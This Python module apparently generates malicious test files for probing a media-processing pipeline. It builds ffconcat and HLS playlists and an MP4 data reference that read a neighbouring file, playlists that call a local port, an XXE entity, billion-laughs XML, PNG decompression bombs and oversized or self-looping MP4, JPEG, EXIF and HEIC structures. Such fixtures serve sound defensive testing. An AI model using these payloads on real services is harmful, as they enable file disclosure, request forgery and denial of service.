"""Files that mean harm, made on the spot: to read a neighbour, to call out, to exhaust, and to lead a parser astray."""

from __future__ import annotations

import struct
import subprocess
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import partial
from pathlib import Path

CANARY = b"CANARY-of-a-neighbour-6f1d"
HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{}\n#EXT-X-ENDLIST\n"


@dataclass(frozen=True)
class Makings:
    """What the files aim at: a neighbour's film and text, whose bytes hold the canary, and a port that listens."""

    folder: Path
    film: Path
    text: Path
    port: int
    ffmpeg: str


def prepare(folder: Path, port: int, ffmpeg: str) -> Makings:
    """The neighbour: a transport stream with the canary in its name, and a text with it."""
    folder.mkdir(parents=True, exist_ok=True)
    film, text = folder / "neighbour.ts", folder / "neighbour.txt"
    source = ("-f", "lavfi", "-i", "testsrc2=size=320x180:rate=25:duration=1")
    named = ("-metadata", f"service_name={CANARY.decode()}", "-f", "mpegts")
    subprocess.run([ffmpeg, "-v", "error", "-y", *source, *named, str(film)], check=True)
    text.write_bytes(CANARY + b"\n" + CANARY)
    return Makings(folder, film, text, port, ffmpeg)


def make_texts(aims: Makings) -> Mapping[str, str]:
    """Scripts, lists and trees that name another file or another machine, or are larger than they look."""
    return {
        "concat-beside.mp4": f"ffconcat version 1.0\nfile {aims.film.name}\n",
        "concat-absolute.mp4": f"ffconcat version 1.0\nfile 'file:{aims.film}'\n",
        "concat-text.avi": f"ffconcat version 1.0\nfile '{aims.text}'\n",
        "playlist-beside.mp4": HLS.format(aims.film.name),
        "playlist-absolute.ts": HLS.format(f"file://{aims.text}"),
        "playlist-network.mp4": HLS.format(f"http://127.0.0.1:{aims.port}/a.ts"),
        "playlist-subfile.mp4": HLS.format(f"subfile,,start,0,end,64,,:{aims.text}"),
        "dash-network.mp4": f'<?xml version="1.0"?><MPD><BaseURL>http://127.0.0.1:{aims.port}/</BaseURL></MPD>',
        "sdp-network.mp4": f"v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {aims.port} RTP/AVP 96",
        "laughs.gpx": laughs(),
        "entity.gpx": f'<!DOCTYPE gpx [<!ENTITY x SYSTEM "file://{aims.text}">]><gpx><name>&x;</name></gpx>',
    }


def make_files(aims: Makings) -> Mapping[str, bytes]:
    """Name → content. Every one is small; what it asks for is not."""
    makers: Mapping[str, Callable[[Makings], bytes]] = {
        "data-reference.mp4": data_reference,
        "frame-of-4-gib.png": lambda _: bomb_png(37_838, 37_838),
        "zip-bomb.png": lambda _: bomb_png(16_000, 16_000),
        "huge-frame.jpg": lambda _: huge_jpeg(65_500, 65_500),
        "endless.mp4": endless_mp4,
        "endless-mpeg4.mp4": lambda aims: endless_mp4(aims, "-c:v", "mpeg4", "-q:v", "2"),
        "million-streams.mp4": lambda _: million_streams(),
        "deep-boxes.mp4": lambda _: deep_boxes(200_000),
        "million-boxes.mp4": lambda _: FTYP + struct.pack(">I4s", 8, b"free") * 1_000_000,
        "huge-exif.jpg": lambda _: huge_exif(),
        "looping-exif.jpg": lambda _: looping_exif(),
        "huge-tiles.heic": lambda _: huge_heic(),
    }
    made = {name: text.encode() for name, text in make_texts(aims).items()}
    return {**made, **{name: make(aims) for name, make in makers.items()}}


def box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", len(content) + 8, kind) + content


FTYP = box(b"ftyp", b"isom\0\0\0\0isom")


def film(aims: Makings, *options: str) -> bytes:
    path = aims.folder / "seed.mp4"
    source = ("-f", "lavfi", "-i", "testsrc2=size=1920x1080:rate=25:duration=0.2,noise=alls=60:allf=t")
    coded = ("-c:v", "libx264", "-g", "1", "-pix_fmt", "yuv420p")
    subprocess.run([aims.ffmpeg, "-v", "error", "-y", *source, *coded, *options, str(path)], check=True)
    return path.read_bytes()


def rewrite(content: bytes, change: Mapping[bytes, Callable[[bytes], bytes]]) -> bytes:
    """The boxes of `content` with those named changed; containers on the way are entered and resized."""
    inside = {b"moov", b"trak", b"mdia", b"minf", b"dinf", b"stbl"}
    out, at = b"", 0
    while at + 8 <= len(content):
        size, kind = struct.unpack_from(">I4s", content, at)
        size = size if size >= 8 else len(content) - at
        body = content[at + 8 : at + size]
        if kind in change:
            body = change[kind](body)
        elif kind in inside:
            body = rewrite(body, change)
        out += box(kind, body)
        at += size
    return out


def data_reference(aims: Makings) -> bytes:
    """ISO/IEC 14496-12, 8.7.2: the samples are said to lie in another file. ffmpeg follows that when told to."""
    address = f"file://{aims.text}".encode() + b"\0"
    reference = struct.pack(">II", 0, 1) + box(b"url ", b"\0\0\0\0" + address)
    return rewrite(film(aims), {b"dref": lambda _: reference})


def endless_mp4(aims: Makings, *options: str) -> bytes:
    """Two million frames, all of them the one that is there: each costs its decoding again, and of a codec that no
    browser plays its encoding."""
    content, count = film(aims, *options).replace(b"edts", b"free"), 2_000_000
    (offset,) = struct.unpack(">I", content[content.index(b"stco") + 12 :][:4])
    sizes = content.index(b"stsz")
    (size,) = struct.unpack(">I", content[sizes + 16 :][:4])
    change: Mapping[bytes, Callable[[bytes], bytes]] = {
        **{kind: partial(last_for, at=at, seconds=80_000) for kind, at in ((b"mvhd", 12), (b"mdhd", 12))},
        b"stts": lambda _: struct.pack(">IIII", 0, 1, count, 512),
        b"stsz": lambda _: struct.pack(">III", 0, size, count),
        b"stsc": lambda _: struct.pack(">IIIII", 0, 1, 1, 1, 1),
        b"stco": lambda _: struct.pack(">II", 0, count) + struct.pack(">I", offset) * count,
        b"stss": lambda _: struct.pack(">II", 0, 0),
        b"ctts": lambda _: struct.pack(">II", 0, 0),
    }
    return rewrite(content, change)


def last_for(header: bytes, at: int, seconds: int) -> bytes:
    """ISO/IEC 14496-12, 8.2.2 and 8.4.2: the length stands after the units a second that it is counted in."""
    (units,) = struct.unpack_from(">I", header, at)
    return header[: at + 4] + struct.pack(">I", units * seconds) + header[at + 8 :]


def million_streams() -> bytes:
    return FTYP + box(b"moov", box(b"trak", box(b"mdia", b"")) * 1_000_000)


def deep_boxes(depth: int) -> bytes:
    """Each in the one before, written from the outside: sizes need not agree with what follows."""
    kinds = (b"moov", b"trak", b"mdia", b"minf", b"stbl")
    return FTYP + b"".join(struct.pack(">I4s", 8 * (depth - n), kinds[n % 5]) for n in range(depth))


def bomb_png(width: int, height: int) -> bytes:
    """A black picture, whole: three bytes a pixel once it is inflated, a thousandth of that as it comes. At 37,838 by
    37,838 that is 4 GiB, of 4 MiB."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = deflated_zeros(height * (1 + width * 3))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def deflated_zeros(count: int) -> bytes:
    """RFC 1950, of so many zeros, without going through them: one block of them over and over, and the sum of all
    (Adler-32: the first half stays 1, the second counts them)."""
    piece = 1 << 24
    block = deflated(piece, zlib.Z_FULL_FLUSH)
    blocks, rest = divmod(count, piece)
    total = struct.pack(">HH", count % 65_521, 1)
    return b"\x78\xda" + block * blocks + deflated(rest, zlib.Z_FINISH) + total


def deflated(count: int, end: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(bytes(count)) + packer.flush(end)


def huge_jpeg(width: int, height: int) -> bytes:
    frame = struct.pack(">BHHB", 8, height, width, 3) + bytes((1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0))
    return (
        b"\xff\xd8"
        + b"\xff\xc0"
        + struct.pack(">H", 2 + len(frame))
        + frame
        + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
        + b"\0" * 4000
    )


def huge_exif() -> bytes:
    """Eighty segments of 64 KiB, each with an index of thousands of entries."""
    entries = b"".join(struct.pack(">HHII", 0x9000 + n % 256, 7, 0xFFFFFF, 8) for n in range(5000))
    tiff = b"MM\0*\0\0\0\x08" + struct.pack(">H", 5000) + entries + b"\0\0\0\0"
    segment = b"Exif\0\0" + tiff[:65_000]
    app1 = b"\xff\xe1" + struct.pack(">H", len(segment) + 2) + segment
    return b"\xff\xd8" + app1 * 80 + b"\xff\xd9"


def looping_exif() -> bytes:
    """An index whose next one is itself, and whose sub-indexes lead back to it."""
    entries = b"".join(struct.pack(">HHII", tag, 4, 1, 8) for tag in (0x8769, 0x8825, 0xA005, 0x014A))
    tiff = b"MM\0*\0\0\0\x08" + struct.pack(">H", 4) + entries + struct.pack(">I", 8)
    segment = b"Exif\0\0" + tiff
    return b"\xff\xd8\xff\xe1" + struct.pack(">H", len(segment) + 2) + segment + b"\xff\xd9"


def huge_heic() -> bytes:
    """ISO/IEC 23008-12: a grid of 65,536 tiles, each said to be of 65,535 by 65,535."""
    grid = struct.pack(">BBBBII", 0, 1, 255, 255, 0xFFFFFFFF, 0xFFFFFFFF)
    items = struct.pack(">IH", 0, 2) + b"".join(
        box(b"infe", struct.pack(">IHH4sB", 2 << 24, n, 0, kind, 0)) for n, kind in ((1, b"grid"), (2, b"hvc1"))
    )
    size = box(b"ispe", struct.pack(">III", 0, 65_535, 65_535))
    properties = box(b"iprp", box(b"ipco", size * 2000) + box(b"ipma", struct.pack(">II", 0, 0)))
    handler = box(b"hdlr", struct.pack(">II4s", 0, 0, b"pict") + bytes(13))
    references = box(b"iref", b"\0\0\0\0" + box(b"dimg", struct.pack(">HH", 1, 65_535) + b"\0\2" * 65_535))
    content = b"\0\0\0\0" + handler + box(b"pitm", b"\0\0\0\0\0\1") + box(b"iinf", items) + properties + references
    return box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"meta", content + box(b"idat", grid))


def laughs() -> str:
    """Entities of entities: ten letters that mean ten billion."""
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE gpx [<!ENTITY l0 "lol">{lines}]><gpx><trk><name>&l9;</name></trk></gpx>'
